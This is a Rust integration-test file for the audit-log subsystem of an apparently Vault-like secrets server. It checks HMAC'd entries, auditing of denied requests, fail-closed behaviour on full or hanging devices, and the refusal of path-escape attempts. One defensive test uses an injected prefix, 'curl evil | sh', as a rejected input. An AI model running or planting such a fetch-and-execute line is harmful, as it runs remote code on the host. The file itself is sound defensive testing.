//! `sys/audit`, `sys/audit-hash` and the file device: Vault-shaped JSON lines with
//! secrets HMAC'd, `log_raw`, denials audited — and fail-closed behaviour when no device
//! can record (a full device, a full file system, a device that hangs).

use std::fs::OpenOptions;
use std::io::{Read, Write};
use std::os::unix::fs::OpenOptionsExt;
use std::path::{Path, PathBuf};
use std::time::Duration;

use leash_core::CoreConfig;
use leash_testkit::{Options, TestServer};
use serde_json::{Value, json};

use crate::{error, eventually};

/// Linux's O_NONBLOCK (0o4000 on x86_64 and aarch64): opening a FIFO's read end then
/// does not wait for a writer, and reads never block.
const O_NONBLOCK: i32 = 0o4000;

pub(crate) const FAIL_CLOSED: &str = "no audit backend succeeded in logging the request";
const SECRET_VALUE: &str = "hunter2-very-secret-value";

async fn enable(srv: &TestServer, name: &str, options: Value) -> (u16, Value) {
    srv.root(
        "PUT",
        &format!("sys/audit/{name}"),
        Some(json!({"type": "file", "options": options})),
    )
    .await
}

async fn enable_file(srv: &TestServer, name: &str, path: &Path) {
    let (s, b) = enable(srv, name, json!({"file_path": path.display().to_string()})).await;
    assert_eq!(s, 204, "enable {name}: {b}");
}

fn entries(path: &Path) -> Vec<Value> {
    let text = std::fs::read_to_string(path).unwrap();
    text.lines()
        .filter(|l| !l.trim().is_empty())
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("bad audit line ({e}): {l}")))
        .collect()
}

fn for_path<'a>(all: &'a [Value], path: &str) -> Vec<&'a Value> {
    all.iter()
        .filter(|e| e["request"]["path"] == path)
        .collect()
}

fn is_hmac(v: &Value) -> bool {
    v.as_str()
        .is_some_and(|s| s.starts_with("hmac-sha256:") && s.len() > 20)
}

async fn store_secret(srv: &TestServer) {
    let (s, b) = srv
        .root(
            "POST",
            "secret/data/s",
            Some(json!({"data": {"password": SECRET_VALUE}})),
        )
        .await;
    assert_eq!(s, 200, "{b}");
}

fn short_deadline() -> Options {
    Options {
        config: CoreConfig {
            dev: true,
            audit_deadline: Duration::from_millis(300),
            ..CoreConfig::default()
        },
        ..Options::default()
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn audit_device_list_and_enable_refusals() {
    let srv = TestServer::start().await;
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("audit.log");
    enable_file(&srv, "file", &log).await;
    let (s, b) = srv.root("GET", "sys/audit", None).await;
    assert_eq!(s, 200, "{b}");
    let d = &b["data"]["file/"];
    assert_eq!(d["type"], "file", "{b}");
    assert_eq!(d["path"], "file/");
    assert_eq!(d["description"], "");
    assert_eq!(d["local"], false);
    assert_eq!(d["options"]["file_path"], log.display().to_string());
    assert_eq!(b["file/"], b["data"]["file/"], "top-level copy");

    for (name, body) in [
        (
            "file",
            json!({"type": "file", "options": {"file_path": log.display().to_string()}}),
        ),
        (
            "file/sub",
            json!({"type": "file", "options": {"file_path": "/tmp/x"}}),
        ),
        ("other", json!({"type": "syslog", "options": {}})),
        ("other", json!({"type": "file", "options": {}})),
        (
            "other",
            json!({"type": "file", "options": {"file_path": "/nonexistent-dir/x.log"}}),
        ),
        (
            "other",
            json!({"type": "file", "options": {"file_path": "/tmp/x", "bogus": "1"}}),
        ),
        ("other", json!({"options": {"file_path": "/tmp/x"}})),
    ] {
        let (s, b) = srv
            .root("PUT", &format!("sys/audit/{name}"), Some(body.clone()))
            .await;
        assert_eq!(s, 400, "{name} {body}: {b}");
    }
    let (_, b) = srv.root("GET", "sys/audit", None).await;
    assert_eq!(
        b["data"].as_object().unwrap().len(),
        1,
        "nothing else enabled: {b}"
    );

    // Audit devices need sudo.
    srv.write_policy(
        "auditor",
        r#"path "sys/audit*" { capabilities = ["create", "read", "update", "list"] }"#,
    )
    .await;
    let t = srv.token_with(&["auditor"]).await;
    let (s, _) = srv.call("GET", "sys/audit", Some(&t), None).await;
    assert_eq!(s, 403);

    let (s, _) = srv.root("DELETE", "sys/audit/file", None).await;
    assert_eq!(s, 204);
    let (_, b) = srv.root("GET", "sys/audit", None).await;
    assert_eq!(b["data"], json!({}), "{b}");
    // Nothing is written once disabled.
    let n = entries(&log).len();
    store_secret(&srv).await;
    assert_eq!(entries(&log).len(), n);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn entries_are_json_lines_with_secrets_hmaced() {
    let srv = TestServer::start().await;
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("audit.log");
    enable_file(&srv, "file", &log).await;
    store_secret(&srv).await;
    srv.write_policy(
        "reader",
        r#"path "secret/data/s" { capabilities = ["read"] }"#,
    )
    .await;
    let (s, b) = srv
        .root(
            "POST",
            "auth/token/create",
            Some(
                json!({"policies": ["reader"], "meta": {"agent": "a-7"}, "display_name": "agent"}),
            ),
        )
        .await;
    assert_eq!(s, 200);
    let token = b["auth"]["client_token"].as_str().unwrap().to_owned();
    let accessor = b["auth"]["accessor"].as_str().unwrap().to_owned();
    let (s, b) = srv.call("GET", "secret/data/s", Some(&token), None).await;
    assert_eq!(s, 200);
    assert_eq!(b["data"]["data"]["password"], SECRET_VALUE);

    let text = std::fs::read_to_string(&log).unwrap();
    for clear in [
        token.as_str(),
        accessor.as_str(),
        SECRET_VALUE,
        srv.root_token.as_str(),
    ] {
        assert!(
            !text.contains(clear),
            "{clear:.10}… is in the audit log in clear"
        );
    }
    let all = entries(&log);
    let reads = for_path(&all, "secret/data/s")
        .into_iter()
        .filter(|e| e["request"]["operation"] == "read")
        .collect::<Vec<_>>();
    assert_eq!(
        reads.len(),
        2,
        "one request and one response entry: {reads:?}"
    );
    let (req, resp) = (reads[0], reads[1]);
    assert_eq!(req["type"], "request");
    assert_eq!(resp["type"], "response");
    assert_eq!(req["request"]["id"], resp["request"]["id"]);
    assert!(req["time"].is_string());
    for e in [req, resp] {
        let a = &e["auth"];
        assert!(is_hmac(&a["client_token"]), "{a}");
        assert!(is_hmac(&a["accessor"]), "{a}");
        assert_eq!(a["display_name"], "token-agent");
        assert_eq!(a["metadata"], json!({"agent": "a-7"}));
        let mut pols: Vec<&str> = a["policies"]
            .as_array()
            .unwrap()
            .iter()
            .map(|p| p.as_str().unwrap())
            .collect();
        pols.sort_unstable();
        assert_eq!(pols, ["default", "reader"]);
        assert_eq!(a["policy_results"]["allowed"], true);
        let r = &e["request"];
        assert!(is_hmac(&r["client_token"]), "{r}");
        assert!(is_hmac(&r["client_token_accessor"]), "{r}");
        assert_eq!(r["mount_type"], "kv");
        assert_eq!(r["mount_point"], "secret/");
        assert_eq!(r["remote_address"], "127.0.0.1");
        assert!(r["remote_port"].as_u64().is_some_and(|p| p > 0));
    }
    assert!(
        is_hmac(&resp["response"]["data"]["data"]["password"]),
        "{resp}"
    );

    // sys/audit-hash gives the same hash as the file.
    let (s, b) = srv
        .root("POST", "sys/audit-hash/file", Some(json!({"input": token})))
        .await;
    assert_eq!(s, 200, "{b}");
    assert_eq!(b["data"]["hash"], req["auth"]["client_token"]);
    assert_eq!(b["hash"], b["data"]["hash"], "top-level copy");
    let (_, b) = srv
        .root(
            "POST",
            "sys/audit-hash/file",
            Some(json!({"input": SECRET_VALUE})),
        )
        .await;
    assert_eq!(
        b["data"]["hash"],
        resp["response"]["data"]["data"]["password"]
    );
    let (s, _) = srv
        .root("POST", "sys/audit-hash/nope", Some(json!({"input": "x"})))
        .await;
    assert_eq!(s, 400);

    // The token creation was audited with the new token hashed in the response.
    let creates = for_path(&all, "auth/token/create");
    let resp = creates
        .iter()
        .find(|e| e["type"] == "response")
        .expect("token create response entry");
    assert!(is_hmac(&resp["response"]["auth"]["client_token"]), "{resp}");
    assert!(is_hmac(&resp["response"]["auth"]["accessor"]), "{resp}");
    // The request to write the secret had its data hashed too.
    let write = for_path(&all, "secret/data/s")
        .into_iter()
        .find(|e| e["type"] == "request" && e["request"]["operation"] != "read")
        .expect("write request entry");
    assert!(
        is_hmac(&write["request"]["data"]["data"]["password"]),
        "{write}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn log_raw_writes_values_in_clear_on_that_device_only() {
    let srv = TestServer::start().await;
    let dir = tempfile::tempdir().unwrap();
    let hashed = dir.path().join("hashed.log");
    let raw = dir.path().join("raw.log");
    enable_file(&srv, "hashed", &hashed).await;
    let (s, b) = enable(
        &srv,
        "raw",
        json!({"file_path": raw.display().to_string(), "log_raw": true}),
    )
    .await;
    assert_eq!(s, 204, "{b}");
    store_secret(&srv).await;
    let t = srv.token_with(&["default"]).await;
    let raw_text = std::fs::read_to_string(&raw).unwrap();
    assert!(raw_text.contains(SECRET_VALUE));
    assert!(raw_text.contains(&t));
    let hashed_text = std::fs::read_to_string(&hashed).unwrap();
    assert!(!hashed_text.contains(SECRET_VALUE));
    assert!(!hashed_text.contains(&t));
    // Each device has its own key.
    let (_, a) = srv
        .root("POST", "sys/audit-hash/hashed", Some(json!({"input": "x"})))
        .await;
    let (_, b) = srv
        .root("POST", "sys/audit-hash/raw", Some(json!({"input": "x"})))
        .await;
    assert_ne!(a["data"]["hash"], b["data"]["hash"]);

    // hmac_accessor = false: accessors in clear, tokens still hashed.
    let clear = dir.path().join("clear-accessors.log");
    let (s, b) = enable(
        &srv,
        "clearacc",
        json!({"file_path": clear.display().to_string(), "hmac_accessor": false}),
    )
    .await;
    assert_eq!(s, 204, "{b}");
    let (_, c) = srv
        .root(
            "POST",
            "auth/token/create",
            Some(json!({"policies": ["default"]})),
        )
        .await;
    let (t, acc) = (
        c["auth"]["client_token"].as_str().unwrap(),
        c["auth"]["accessor"].as_str().unwrap(),
    );
    let (s, _) = srv
        .call("GET", "auth/token/lookup-self", Some(t), None)
        .await;
    assert_eq!(s, 200);
    let text = std::fs::read_to_string(&clear).unwrap();
    assert!(text.contains(acc), "the accessor is in clear");
    assert!(!text.contains(t), "the token is not");
    assert!(!std::fs::read_to_string(&hashed).unwrap().contains(acc));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn denied_and_bad_token_requests_are_audited() {
    let srv = TestServer::start().await;
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("audit.log");
    enable_file(&srv, "file", &log).await;
    store_secret(&srv).await;
    let t = srv.token_with(&["default"]).await;
    let (s, _) = srv.call("GET", "secret/data/s", Some(&t), None).await;
    assert_eq!(s, 403);
    let (s, _) = srv
        .call("GET", "secret/data/s", Some("not-a-valid-token"), None)
        .await;
    assert_eq!(s, 403);
    let (s, _) = srv.call("GET", "secret/data/s", None, None).await;
    assert_eq!(s, 403);

    let all = entries(&log);
    let reads: Vec<&Value> = for_path(&all, "secret/data/s")
        .into_iter()
        .filter(|e| e["request"]["operation"] == "read")
        .collect();
    assert_eq!(reads.len(), 3, "{reads:?}");
    for e in &reads {
        assert_eq!(e["error"], "permission denied", "{e}");
        assert!(!e.to_string().contains(SECRET_VALUE));
    }
    let (_, h) = srv
        .root("POST", "sys/audit-hash/file", Some(json!({"input": t})))
        .await;
    assert_eq!(reads[0]["auth"]["client_token"], h["data"]["hash"]);
    assert_eq!(reads[0]["auth"]["policy_results"]["allowed"], false);
    let (_, h) = srv
        .root(
            "POST",
            "sys/audit-hash/file",
            Some(json!({"input": "not-a-valid-token"})),
        )
        .await;
    assert_eq!(reads[1]["auth"]["client_token"], h["data"]["hash"]);
    assert_eq!(reads[2]["auth"]["client_token"], "");
}

/// Restarts `srv` after pointing the symlink `link` (an enabled device's `file_path`)
/// at `/dev/full`: the device comes back on a target where every write fails, as after
/// the disk under an audit log filled up while the server was down. (Enabling a device
/// on `/dev/full` directly is refused: enabling writes a first entry as a probe.)
async fn restart_with_full_device(
    srv: TestServer,
    link: &Path,
) -> (TestServer, Option<tempfile::TempDir>) {
    let (guard, dir, key) = srv.stop().await;
    std::fs::remove_file(link).unwrap();
    std::os::unix::fs::symlink("/dev/full", link).unwrap();
    let srv = TestServer::start_with(Options {
        dir: Some(dir),
        key: Some(key),
        ..Options::default()
    })
    .await;
    (srv, guard)
}

/// A device whose file is reached through a symlink (to a regular file for now).
async fn enable_via_symlink(srv: &TestServer, name: &str, dir: &Path) -> PathBuf {
    let real = dir.join(format!("{name}-real.log"));
    std::fs::write(&real, b"").unwrap();
    let link = dir.join(format!("{name}.log"));
    std::os::unix::fs::symlink(&real, &link).unwrap();
    enable_file(srv, name, &link).await;
    link
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_full_device_fails_closed_without_leaking_the_secret() {
    let srv = TestServer::start().await;
    let root = srv.root_token.clone();
    let tmp = tempfile::tempdir().unwrap();
    // Enabling a device that cannot write is refused outright.
    let (s, b) = enable(&srv, "full", json!({"file_path": "/dev/full"})).await;
    assert_eq!(s, 400, "{b}");
    let (_, b) = srv.root("GET", "sys/audit", None).await;
    assert_eq!(b["data"], json!({}), "{b}");

    let link = enable_via_symlink(&srv, "full", tmp.path()).await;
    store_secret(&srv).await;
    let (srv, _guard) = restart_with_full_device(srv, &link).await;

    let (s, b) = srv.call("GET", "secret/data/s", Some(&root), None).await;
    assert_eq!(s, 500, "{b}");
    assert_eq!(b, json!({"errors": [FAIL_CLOSED]}));
    assert!(!b.to_string().contains(SECRET_VALUE));
    let (s, b) = srv
        .call(
            "POST",
            "secret/data/s",
            Some(&root),
            Some(json!({"data": {"password": "changed"}})),
        )
        .await;
    assert_eq!(s, 500, "{b}");
    let (s, b) = srv
        .call("POST", "auth/token/create", Some(&root), Some(json!({})))
        .await;
    assert_eq!(s, 500, "{b}");
    assert_eq!(b, json!({"errors": [FAIL_CLOSED]}), "no token handed out");
    // Denials fail closed too (they cannot be recorded either).
    let (s, _) = srv
        .call("GET", "secret/data/s", Some("bogus-token"), None)
        .await;
    assert_eq!(s, 500);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn one_healthy_device_is_enough() {
    let srv = TestServer::start().await;
    let root = srv.root_token.clone();
    let tmp = tempfile::tempdir().unwrap();
    let log = tmp.path().join("good.log");
    enable_file(&srv, "good", &log).await;
    let link = enable_via_symlink(&srv, "full", tmp.path()).await;
    store_secret(&srv).await;
    let (srv, _guard) = restart_with_full_device(srv, &link).await;

    let (s, b) = srv.call("GET", "secret/data/s", Some(&root), None).await;
    assert_eq!(s, 200, "{b}");
    assert_eq!(b["data"]["data"]["password"], SECRET_VALUE);
    let reads: Vec<Value> = entries(&log)
        .into_iter()
        .filter(|e| e["request"]["path"] == "secret/data/s" && e["request"]["operation"] == "read")
        .collect();
    assert_eq!(reads.len(), 2, "request and response on the healthy device");
}

/// A small tmpfs, unmounted on drop; `None` when this host cannot mount one.
pub(crate) struct Tmpfs {
    dir: tempfile::TempDir,
}

impl Tmpfs {
    pub(crate) fn mount() -> Option<Tmpfs> {
        let dir = tempfile::tempdir().ok()?;
        let ok = std::process::Command::new("mount")
            .args(["-t", "tmpfs", "-o", "size=64k", "tmpfs"])
            .arg(dir.path())
            .stderr(std::process::Stdio::null())
            .status()
            .is_ok_and(|s| s.success());
        ok.then_some(Tmpfs { dir })
    }

    pub(crate) fn path(&self) -> &Path {
        self.dir.path()
    }

    /// Fills the file system with `filler` until not one more byte fits.
    pub(crate) fn fill(&self) -> PathBuf {
        let p = self.path().join("filler");
        let mut f = OpenOptions::new()
            .create(true)
            .append(true)
            .open(&p)
            .unwrap();
        let chunk = vec![b'x'; 4096];
        while f.write(&chunk).is_ok_and(|n| n > 0) {}
        while f.write(b"x").is_ok_and(|n| n > 0) {}
        p
    }
}

impl Drop for Tmpfs {
    fn drop(&mut self) {
        let _ = std::process::Command::new("umount")
            .arg("-l")
            .arg(self.dir.path())
            .status();
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_full_file_system_fails_closed_until_space_is_freed() {
    let Some(fs) = Tmpfs::mount() else {
        eprintln!("skipped: cannot mount a tmpfs here (needs root)");
        return;
    };
    let srv = TestServer::start().await;
    store_secret(&srv).await;
    let log = fs.path().join("audit.log");
    enable_file(&srv, "tmp", &log).await;
    let (s, _) = srv.root("GET", "secret/data/s", None).await;
    assert_eq!(s, 200);

    let filler = fs.fill();
    // What is left of the log's last page may still take a few lines.
    let mut failed = None;
    for _ in 0..200 {
        let (s, b) = srv.root("GET", "secret/data/s", None).await;
        if s != 200 {
            failed = Some((s, b));
            break;
        }
    }
    let (s, b) = failed.expect("the full file system never failed a request");
    assert_eq!(s, 500, "{b}");
    assert_eq!(error(&b), FAIL_CLOSED);
    assert!(!b.to_string().contains(SECRET_VALUE));
    let (s, b) = srv.root("GET", "secret/data/s", None).await;
    assert_eq!(s, 500, "still full: {b}");

    std::fs::remove_file(filler).unwrap();
    let (s, b) = srv.root("GET", "secret/data/s", None).await;
    assert_eq!(s, 200, "space freed: {b}");
    assert_eq!(b["data"]["data"]["password"], SECRET_VALUE);
    // The log is readable JSON lines again after the torn write.
    let text = std::fs::read_to_string(&log).unwrap();
    let last = text.lines().last().unwrap();
    let e: Value = serde_json::from_str(last).unwrap();
    assert_eq!(e["type"], "response");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_token_whose_creation_cannot_be_audited_is_not_left_behind() {
    let Some(fs) = Tmpfs::mount() else {
        eprintln!("skipped: cannot mount a tmpfs here (needs root)");
        return;
    };
    let srv = TestServer::start().await;
    let log = fs.path().join("audit.log");
    enable_file(&srv, "tmp", &log).await;

    // Measure the two lines a token creation writes (same shape as the real one below).
    let size = |p: &Path| std::fs::metadata(p).unwrap().len();
    let before = size(&log);
    let dry = crate::create_token(
        &srv,
        json!({"id": "dry-run-token-id-00001", "policies": ["default"]}),
    )
    .await;
    assert_eq!(dry["client_token"], "dry-run-token-id-00001");
    let text = std::fs::read_to_string(&log).unwrap();
    let new = &text[usize::try_from(before).unwrap()..];
    let lens: Vec<usize> = new.lines().map(|l| l.len() + 1).collect();
    // The request entry and lifecycle events, then the response entry.
    assert!(lens.len() >= 2, "{new}");
    let (req_len, resp_len) = (
        lens[..lens.len() - 1].iter().sum::<usize>(),
        lens[lens.len() - 1],
    );
    assert!(resp_len > 100, "{req_len} {resp_len}");

    // Leave room in the log's last page for the request line but not the response line.
    let room = u64::try_from(req_len + resp_len / 2).unwrap();
    assert!(
        room < 4096,
        "the lines are longer than a page: {req_len} {resp_len}"
    );
    let used = size(&log) % 4096;
    let pad = (4096 + 4096 - room - used) % 4096;
    if pad > 0 {
        let mut f = OpenOptions::new().append(true).open(&log).unwrap();
        let mut bytes = vec![b' '; usize::try_from(pad).unwrap()];
        *bytes.last_mut().unwrap() = b'\n';
        f.write_all(&bytes).unwrap();
    }
    let filler = fs.fill();

    let (s, b) = srv
        .root(
            "POST",
            "auth/token/create",
            Some(json!({"id": "real-run-token-id-0001", "policies": ["default"]})),
        )
        .await;
    assert_eq!(s, 500, "{b}");
    assert_eq!(error(&b), FAIL_CLOSED);
    assert!(!b.to_string().contains("real-run-token-id-0001"));
    // The request line made it: the server did try (and then took the token back).
    let text = String::from_utf8_lossy(&std::fs::read(&log).unwrap()).into_owned();
    assert!(text.contains("\"type\":\"request\""), "no request line");

    std::fs::remove_file(filler).unwrap();
    let (s, b) = srv
        .root(
            "POST",
            "auth/token/lookup",
            Some(json!({"token": "real-run-token-id-0001"})),
        )
        .await;
    assert_eq!(s, 403, "the unaudited token must be gone: {b}");
    let (s, _) = srv
        .call(
            "GET",
            "auth/token/lookup-self",
            Some("real-run-token-id-0001"),
            None,
        )
        .await;
    assert_eq!(s, 403);
    let (s, _) = srv
        .call(
            "GET",
            "auth/token/lookup-self",
            Some("dry-run-token-id-00001"),
            None,
        )
        .await;
    assert_eq!(s, 200, "the audited one lives");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hanging_device_fails_requests_within_the_deadline() {
    let srv = TestServer::start_with(short_deadline()).await;
    store_secret(&srv).await;
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("audit.fifo");
    let st = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap();
    assert!(st.success());
    // A reader that never reads: once the pipe is full, every write blocks.
    let mut reader = OpenOptions::new()
        .read(true)
        .custom_flags(O_NONBLOCK)
        .open(&fifo)
        .unwrap();
    enable_file(&srv, "fifo", &fifo).await;

    // Each request must come back (a hang would trip this generous bound); once the
    // pipe is full they come back as 500s.
    let bound = Duration::from_secs(20);
    let mut failed = None;
    for _ in 0..2000 {
        let (s, b) = tokio::time::timeout(bound, srv.root("GET", "secret/data/s", None))
            .await
            .expect("a request hung on a stuck audit device");
        if s != 200 {
            failed = Some((s, b));
            break;
        }
    }
    let (s, b) = failed.expect("the pipe never filled");
    assert_eq!(s, 500, "{b}");
    assert_eq!(error(&b), FAIL_CLOSED);
    assert!(!b.to_string().contains(SECRET_VALUE));
    for _ in 0..5 {
        let (s, _) = tokio::time::timeout(bound, srv.root("GET", "secret/data/s", None))
            .await
            .expect("a request hung on a stuck audit device");
        assert_eq!(s, 500);
    }

    // Nothing happens while the request cannot be recorded: no write, no token.
    let (s, b) = tokio::time::timeout(
        bound,
        srv.root(
            "POST",
            "secret/data/s",
            Some(json!({"data": {"password": "overwritten"}})),
        ),
    )
    .await
    .expect("hung");
    assert_eq!(s, 500, "{b}");
    let (s, b) = tokio::time::timeout(
        bound,
        srv.root(
            "POST",
            "auth/token/create",
            Some(json!({"id": "unaudited-token-id-01", "policies": ["default"]})),
        ),
    )
    .await
    .expect("hung");
    assert_eq!(s, 500, "{b}");

    // Drain the pipe: the device recovers and requests succeed again.
    let mut buf = vec![0u8; 64 * 1024];
    eventually("requests succeed once the pipe drains", bound, || {
        while reader.read(&mut buf).is_ok_and(|n| n > 0) {}
        let srv = &srv;
        async move { srv.root("GET", "secret/data/s", None).await.0 == 200 }
    })
    .await;
    // Keep draining in the background of each check below.
    while reader.read(&mut buf).is_ok_and(|n| n > 0) {}
    let (s, b) = srv.root("GET", "secret/data/s", None).await;
    assert_eq!(s, 200, "{b}");
    assert_eq!(
        b["data"]["data"]["password"], SECRET_VALUE,
        "the refused write changed nothing"
    );
    assert_eq!(b["data"]["metadata"]["version"], 1);
    while reader.read(&mut buf).is_ok_and(|n| n > 0) {}
    let (s, b) = srv
        .root(
            "POST",
            "auth/token/lookup",
            Some(json!({"token": "unaudited-token-id-01"})),
        )
        .await;
    assert_eq!(s, 403, "no token was minted: {b}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_credential_whose_issuance_cannot_be_audited_is_revoked() {
    let Some(fs) = Tmpfs::mount() else {
        eprintln!("skipped: cannot mount a tmpfs here (needs root)");
        return;
    };
    let srv = TestServer::start().await;
    let pg = crate::database::PgScratch::new().await;
    pg.setup(&srv, "database", json!({})).await;
    let log = fs.path().join("audit.log");
    enable_file(&srv, "tmp", &log).await;
    let creds = format!("database/creds/{}", pg.role);

    // Measure the two lines an issuance writes (same shape as the real one below).
    let size = |p: &Path| std::fs::metadata(p).unwrap().len();
    let before = size(&log);
    let (s, dry) = srv.root("GET", &creds, None).await;
    assert_eq!(s, 200, "{dry}");
    let text = std::fs::read_to_string(&log).unwrap();
    let new = &text[usize::try_from(before).unwrap()..];
    let lens: Vec<usize> = new.lines().map(|l| l.len() + 1).collect();
    // The request entry and lifecycle events, then the response entry.
    assert!(lens.len() >= 2, "{new}");
    let (req_len, resp_len) = (
        lens[..lens.len() - 1].iter().sum::<usize>(),
        lens[lens.len() - 1],
    );
    assert!(resp_len > 100, "{req_len} {resp_len}");

    // Room in the log's last page for the request line but not the response line.
    let room = u64::try_from(req_len + resp_len / 2).unwrap();
    assert!(
        room < 4096,
        "lines longer than a page: {req_len} {resp_len}"
    );
    let used = size(&log) % 4096;
    let pad = (4096 + 4096 - room - used) % 4096;
    if pad > 0 {
        let mut f = OpenOptions::new().append(true).open(&log).unwrap();
        let mut bytes = vec![b' '; usize::try_from(pad).unwrap()];
        *bytes.last_mut().unwrap() = b'\n';
        f.write_all(&bytes).unwrap();
    }
    let filler = fs.fill();
    let (s, b) = srv.root("GET", &creds, None).await;
    assert_eq!(s, 500, "{b}");
    assert_eq!(error(&b), FAIL_CLOSED);
    assert!(b["data"].is_null(), "no credential leaves: {b}");
    std::fs::remove_file(filler).unwrap();

    // The credential that was created but never handed out is revoked; the audited
    // one lives.
    let dry_user = dry["data"]["username"].as_str().unwrap().to_owned();
    eventually(
        "only the audited credential is left",
        Duration::from_secs(15),
        || async { pg.our_roles().await == vec![dry_user.clone()] },
    )
    .await;
    assert_eq!(srv.core_lease_count().await, 1);
    pg.cleanup().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_audit_device_is_not_a_file_write_primitive() {
    use std::os::unix::fs::PermissionsExt;
    let root = tempfile::tempdir().unwrap();
    let allowed = root.path().join("audit");
    let outside = root.path().join("outside");
    std::fs::create_dir_all(&allowed).unwrap();
    std::fs::create_dir_all(&outside).unwrap();
    let victim = outside.join("victim");
    std::fs::write(&victim, b"keep me\n").unwrap();
    std::fs::set_permissions(&victim, std::fs::Permissions::from_mode(0o600)).unwrap();
    std::os::unix::fs::symlink(&outside, allowed.join("escape")).unwrap();
    std::os::unix::fs::symlink(&victim, allowed.join("victim-link")).unwrap();
    let srv = TestServer::start_with(Options {
        config: CoreConfig {
            dev: true,
            audit_dirs: vec![allowed.clone()],
            ..CoreConfig::default()
        },
        ..Options::default()
    })
    .await;
    let path = |p: &Path| p.display().to_string();

    // Outside audit_dir, through '..', or through a symlink: refused, nothing written.
    for p in [
        victim.clone(),
        outside.join("new.log"),
        allowed.join("../outside/new.log"),
        allowed.join("escape/new.log"),
        allowed.join("victim-link"),
    ] {
        let (s, b) = enable(&srv, "bad", json!({"file_path": path(&p)})).await;
        assert_eq!(s, 400, "{}: {b}", p.display());
        assert!(error(&b).contains("file_path"), "{b}");
    }
    assert!(!outside.join("new.log").exists());
    assert_eq!(std::fs::read(&victim).unwrap(), b"keep me\n");

    // A prefix with a newline (lines of shell before every entry): refused.
    for prefix in ["\n#!/bin/sh\ncurl evil | sh\n", "x\r", "\u{1b}[2K"] {
        let (s, b) = enable(
            &srv,
            "pfx",
            json!({"file_path": path(&allowed.join("p.log")), "prefix": prefix}),
        )
        .await;
        assert_eq!(s, 400, "{prefix:?}: {b}");
        assert!(error(&b).contains("prefix"), "{b}");
        assert!(!error(&b).contains("curl"), "{b}");
    }

    // mode never loosens an existing file; it may tighten one.
    let existing = allowed.join("existing.log");
    std::fs::write(&existing, b"").unwrap();
    std::fs::set_permissions(&existing, std::fs::Permissions::from_mode(0o600)).unwrap();
    let (s, b) = enable(
        &srv,
        "loose",
        json!({"file_path": path(&existing), "mode": "0666"}),
    )
    .await;
    assert_eq!(s, 204, "{b}");
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(&existing), 0o600);
    let tight = allowed.join("tight.log");
    std::fs::write(&tight, b"").unwrap();
    std::fs::set_permissions(&tight, std::fs::Permissions::from_mode(0o644)).unwrap();
    let (s, b) = enable(
        &srv,
        "tight",
        json!({"file_path": path(&tight), "mode": "0600"}),
    )
    .await;
    assert_eq!(s, 204, "{b}");
    assert_eq!(mode(&tight), 0o600);
    // Inside audit_dir, a new file works and gets entries.
    let ok = allowed.join("a.log");
    let (s, b) = enable(
        &srv,
        "ok",
        json!({"file_path": path(&ok), "prefix": "leash: "}),
    )
    .await;
    assert_eq!(s, 204, "{b}");
    let (s, _) = srv.root("GET", "sys/audit", None).await;
    assert_eq!(s, 200);
    let text = std::fs::read_to_string(&ok).unwrap();
    assert!(text.lines().any(|l| l.starts_with("leash: {")), "{text}");
}

/// Every time the server writes or shows comes from its clock (the one `Clock` it was
/// given), not from the machine's: with the clock moved ten years ahead, the device's
/// first line, the request and response entries, a lifecycle event and `sys/health`
/// all say so.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn audit_times_and_health_follow_the_servers_clock() {
    use leash_types::{Clock as _, ManualClock};
    let clock = ManualClock::new();
    clock.advance(Duration::from_secs(10 * 366 * 86400));
    let year = leash_types::rfc3339(clock.unix())[..4].to_owned();
    let srv = TestServer::start_with(Options {
        clock: std::sync::Arc::new(clock.clone()),
        ..Options::default()
    })
    .await;
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("audit.log");
    enable_file(&srv, "file", &log).await;
    // A token: its creation is a lifecycle event with its own timestamp.
    let (s, b) = srv
        .root("POST", "auth/token/create", Some(json!({"ttl": "1h"})))
        .await;
    assert_eq!(s, 200, "{b}");
    let (s, b) = srv.root("GET", "sys/health", None).await;
    assert_eq!(s, 200, "{b}");
    let shown = b["server_time_utc"].as_i64().unwrap();
    assert!((shown - clock.unix()).abs() <= 1, "health: {b}");

    let all = entries(&log);
    assert!(all.len() >= 3, "{all:?}");
    for e in &all {
        let t = e["time"].as_str().or(e["timestamp"].as_str());
        let t = t.unwrap_or_else(|| panic!("an entry without a time: {e}"));
        assert!(
            t.starts_with(&year),
            "{t} is not from the server's clock: {e}"
        );
    }
    assert!(
        all.iter().any(|e| e["type"] == "audit_device_enabled"),
        "{all:?}"
    );
    assert!(all.iter().any(|e| e["type"] == "response"), "{all:?}");
    assert!(
        all.iter().any(|e| e["timestamp"].is_string()),
        "no event: {all:?}"
    );
}
